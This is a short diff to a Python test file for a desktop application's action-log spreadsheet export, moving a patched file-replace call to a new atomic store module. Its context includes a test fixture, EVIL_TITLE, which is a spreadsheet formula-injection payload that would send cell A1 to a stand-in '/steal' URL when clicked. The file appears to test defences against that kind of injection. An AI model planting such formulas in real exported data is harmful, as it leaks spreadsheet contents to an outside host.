@@ -21,6 +21,7 @@ from vpr_desktop.services.actions.listing import ActionListSource
 from vpr_desktop.services.actions.service import ActionLogService
 from vpr_desktop.services.common.paging import PageRequest
 from vpr_desktop.services.common.unit_of_work import reading
+from vpr_desktop.store import atomic
 
 EVIL_TITLE = '=HYPERLINK("http://example.invalid/steal?"&A1,"Click for the policy")'
 # The service strips leading white space from what people type, so tab and CR openers only
@@ -164,7 +165,7 @@ def test_a_failed_export_leaves_the_old_file_and_no_audit(
     def locked(*_a: Any) -> None:
         raise PermissionError(13, "The process cannot access the file")
 
-    monkeypatch.setattr(action_log_xlsx.os, "replace", locked)
+    monkeypatch.setattr(atomic.os, "replace", locked)
     with pytest.raises(ExportFileError, match="open in Excel"):
         export_action_log(lead, target)
     monkeypatch.undo()
